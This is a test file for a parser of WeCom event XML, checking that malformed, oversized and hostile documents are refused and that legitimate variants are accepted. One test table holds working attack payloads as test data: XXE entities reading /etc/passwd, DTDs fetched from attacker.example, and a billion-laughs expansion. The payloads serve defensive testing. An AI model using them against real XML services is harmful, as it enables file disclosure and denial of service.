import { EventXmlError, MAX_EVENT_XML_BYTES, parseEventXml } from '../../../shared/wecom/events';

const fields = '<ToUserName><![CDATA[ww1]]></ToUserName><FromUserName><![CDATA[sys]]></FromUserName><CreateTime>1</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[change_contact]]></Event><ChangeType><![CDATA[delete_user]]></ChangeType>';
const valid = (userId = 'zhangsan') => `<xml>${fields}<UserID><![CDATA[${userId}]]></UserID></xml>`;

function parseError(xml: string): EventXmlError {
  try {
    parseEventXml(xml);
  } catch (error) {
    expect(error).toBeInstanceOf(EventXmlError);
    return error as EventXmlError;
  }
  throw new Error('expected EventXmlError');
}

describe('parseEventXml refuses what is not an event document', () => {
  it('names its error EventXmlError', () => {
    const error = parseError('');
    expect(error.name).toBe('EventXmlError');
    expect(error).toBeInstanceOf(Error);
  });

  it.each([
    ['an empty string', ''],
    ['whitespace only', ' \n\t'],
    ['plain text', 'hello'],
    ['JSON', '{"ToUserName":"ww1"}'],
    ['an unclosed root', `<xml>${fields}`],
    ['an unclosed element', `<xml>${fields}<UserID>zhangsan</xml>`],
    ['a mismatched end tag', `<xml>${fields}<UserID>zhangsan</UserId></xml>`],
    ['an end tag never opened', `<xml>${fields}</UserID></xml>`],
    ['a bare < in text', `<xml>${fields}<UserID>a < b</UserID></xml>`],
    ['a bare & in text', `<xml>${fields}<UserID>a & b</UserID></xml>`],
    ['an unterminated CDATA', `<xml>${fields}<UserID><![CDATA[zhangsan</UserID></xml>`],
    ['an unterminated tag', `<xml>${fields}<UserID`],
    ['an unterminated attribute quote', `<xml a="1>${fields}</xml>`],
    ['text after the root', `${valid()}trailing`],
    ['an invalid element name', `<xml>${fields}<1UserID>zhangsan</1UserID></xml>`],
    ['an element named __proto__', `<xml>${fields}<__proto__>x</__proto__></xml>`],
    ['an element named constructor', `<xml>${fields}<constructor>x</constructor></xml>`],
    ['nesting deeper than the parser allows', `<xml>${fields}${'<a>'.repeat(200)}x${'</a>'.repeat(200)}</xml>`],
  ])('malformed XML: %s', (_name, xml) => {
    parseError(xml);
  });

  it.each([
    ['another root element', `<root>${fields}</root>`],
    ['a root whose name only starts with xml', `<xmlish>${fields}</xmlish>`],
    ['two roots', `${valid()}<xml>${fields}</xml>`],
    ['a second, different root', `${valid()}<other/>`],
    ['text before the root', `junk${valid()}`],
    ['a declaration that is not first', `\n<xml>${fields}</xml><?xml version="1.0"?>`],
    ['a processing instruction inside the root', `<xml><?php echo 1; ?>${fields}</xml>`],
    ['a processing instruction before the root', `<?xml-stylesheet href="a.xsl"?>${valid()}`],
  ])('wrong root or prolog: %s', (_name, xml) => {
    parseError(xml);
  });

  it.each([
    ['XXE: external entity', `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml>${fields}<UserID>&x;</UserID></xml>`],
    ['XXE: external DTD', `<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml>${fields}<UserID>u</UserID></xml>`],
    ['XXE: parameter entity', `<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><xml>${fields}<UserID>u</UserID></xml>`],
    [
      'billion laughs',
      `<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><xml>${fields}<UserID>&d;</UserID></xml>`,
    ],
    ['a lower-case doctype', `<!doctype xml><xml>${fields}<UserID>u</UserID></xml>`],
    ['a DOCTYPE inside the root', `<xml><!DOCTYPE xml [<!ENTITY x "boom">]>${fields}<UserID>&x;</UserID></xml>`],
    ['an ENTITY declaration without a DOCTYPE', `<xml><!ENTITY x "boom">${fields}<UserID>&x;</UserID></xml>`],
    ['a lower-case entity declaration', `<xml><!entity x "boom">${fields}<UserID>u</UserID></xml>`],
    ['a DOCTYPE hidden behind a CDATA opener in an attribute', `<xml a="<![CDATA["><!DOCTYPE x [<!ENTITY e "boom">]>${fields}<UserID>&e;</UserID><b c="]]>"/></xml>`],
    ['a comment', `<xml><!-- hello -->${fields}<UserID>u</UserID></xml>`],
    ['a bare <! sequence', `<xml><!X>${fields}<UserID>u</UserID></xml>`],
  ])('declarations: %s', (_name, xml) => {
    expect(parseError(xml).message).not.toContain('passwd');
  });

  it('refuses a payload with no ToUserName, or an empty one', () => {
    expect(parseError(`<xml><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>`).message).toMatch(/ToUserName/);
    expect(parseError(`<xml><ToUserName></ToUserName><CreateTime>1</CreateTime></xml>`).message).toMatch(/ToUserName/);
    expect(parseError(`<xml><ToUserName><a>ww1</a></ToUserName></xml>`).message).toMatch(/ToUserName/);
    expect(parseError('<xml/>').message).toMatch(/ToUserName/);
  });

  it('refuses more than 64 KiB, counted in UTF-8 bytes', () => {
    const filler = (text: string) => valid().replace('</xml>', `<Padding><![CDATA[${text}]]></Padding></xml>`);
    const room = MAX_EVENT_XML_BYTES - Buffer.byteLength(filler(''));

    expect(parseEventXml(filler('a'.repeat(room))).type).toBe('change_contact.delete_user');
    parseError(filler('a'.repeat(room + 1)));
    // 3 bytes per character: within the limit in characters, over it in bytes.
    parseError(filler('你'.repeat(Math.ceil(room / 3) + 1)));
  });

  it('refuses input that is not a string at all', () => {
    for (const input of [undefined, null, 42, Buffer.from(valid()), { xml: valid() }]) {
      expect(() => parseEventXml(input as unknown as string)).toThrow(EventXmlError);
    }
  });
});

describe('parseEventXml accepts what WeCom may legitimately send', () => {
  it.each([
    ['a BOM', `\ufeff${valid()}`],
    ['an XML declaration', `<?xml version="1.0" encoding="UTF-8"?>\n${valid()}\n`],
    ['whitespace around the root', `\n\t ${valid()} \n`],
    ['attributes (ignored)', valid().replace('<xml>', '<xml version="2">')],
    ['a user message that quotes a DOCTYPE, a comment and CDATA delimiters', valid('<!DOCTYPE html><!-- x --><![CDATA[')],
  ])('%s', (_name, xml) => {
    expect(parseEventXml(xml)).toMatchObject({ type: 'change_contact.delete_user', corpId: 'ww1' });
  });
});
